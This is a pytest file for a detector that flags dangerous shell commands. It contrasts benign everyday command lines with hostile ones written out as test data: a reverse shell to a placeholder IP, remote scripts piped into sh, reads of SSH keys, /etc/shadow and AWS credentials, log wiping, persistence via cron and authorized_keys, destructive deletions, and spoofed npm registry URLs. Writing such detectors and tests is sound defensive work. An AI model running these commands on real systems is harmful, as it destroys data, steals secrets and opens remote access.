"""Command lines: what a person should look at, and everyday work that nobody should be asked about."""

import pytest

from standwatch.enforce.idioms.shell import danger

LOOK = (
    "sudo systemctl restart db",
    "nice -n 5 sudo reboot",
    "bash -lc 'doas id'",
    "ssh build1 'sudo id'",
    "rm -rf /",
    "rm -r -f ~/",
    "find /etc -delete",
    "dd if=image of=/dev/sda",
    "curl https://get.example.org | sh",
    "wget -qO- https://x.example/a.sh | bash -s -- -y",
    'sh -c "$(curl -fsSL https://x.example/a.sh)"',
    "echo aWQ= | base64 -d | sh",
    "cat ~/.ssh/id_ed25519",
    "tar czf - ~/.aws/credentials",
    "sort < /etc/shadow",
    "curl http://169.254.169.254/latest/",
    "python3 -c \"import os; os.system('sudo id')\"",
    "$(printf sudo) id",
    "git push --force origin main",
    "git push origin :main",
    "git push origin +main",
    "git -c core.sshCommand='sh x' fetch",
    "git config core.hooksPath .hooks",
    "ssh -o ProxyCommand='nc x 1' host",
    "docker run --privileged alpine",
    "docker run -v /:/host alpine",
    "kubectl delete namespace prod",
    "terraform destroy -auto-approve",
    "aws --region eu-west-1 iam create-user --user-name x",
    "aws s3 rm s3://bucket --recursive",
    "psql -c 'DROP TABLE users'",
    "crontab jobs.txt",
    "echo '* * * * * x' > /etc/cron.d/x",
    "cp job.service /etc/systemd/system/",
    "echo k >> ~/.ssh/authorized_keys",
    "history -c",
    "export HISTFILE=/dev/null",
    "shred -u /var/log/auth.log",
    "pip install -i https://p.example/simple x",
    "npm install --registry https://r.example x",
    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "chmod u+s /tmp/x",
    "echo 'open",
    "echo $(rm -rf /)",
    "cat <<EOF\n$(sudo id)\nEOF",
)

FINE = (
    "ls -la ~/.aws",
    "git push origin main",
    "git push -u origin feature/delete-button",
    "git commit -m 'rm -rf / is what we must never run; sudo neither'",
    "grep -rn 'DROP TABLE' migrations",
    "echo 'remember: terraform destroy'",
    "rm -rf build dist node_modules",
    "rm -rf /srv/dev/project/target",
    "cat ~/.ssh/id_ed25519.pub",
    "docker run --rm -it -p 80:80 nginx",
    "kubectl get pods -n delete-me",
    "terraform plan -destroy",
    "terraform destroy --help",
    "psql -c 'SELECT count(*) FROM drop_points'",
    "python3 -m pytest -q -k sudo",
    "curl -s https://api.example.com/v1/items | jq .",
    "find . -name '*.pyc' -delete",
    "awk '{print $1}' access.log | sort | uniq -c",
    "sed -i 's/foo/bar/' src/app.py",
    "crontab -l",
    "make test # sudo not needed",
    'for f in *.py; do wc -l "$f"; done',
    "cat <<'EOF' > notes.md\nsomething about sudo\nEOF",
)


@pytest.mark.parametrize("line", LOOK)
def test_somebody_looks(line: str) -> None:
    assert danger(line)


@pytest.mark.parametrize("line", FINE)
def test_nobody_is_asked(line: str) -> None:
    assert danger(line) == ""


PUBLIC = ".".join(("registry", "npmjs", "org"))


def test_the_registry_that_everybody_uses_is_nothing_odd_and_any_other_is() -> None:
    assert danger(f"npm install --registry=https://{PUBLIC} demo") == ""
    assert danger(f"npm config set registry https://{PUBLIC}/") == ""
    for other in (
        f"http://{PUBLIC}", f"https://{PUBLIC}.evil.example", f"https://evil.example/{PUBLIC}",
        f"https://{PUBLIC}@evil.example", f"https://{PUBLIC}\\@evil.example", f"https://evil.example#{PUBLIC}",
    ):  # fmt: skip
        assert danger(f"npm install --registry='{other}' demo"), other
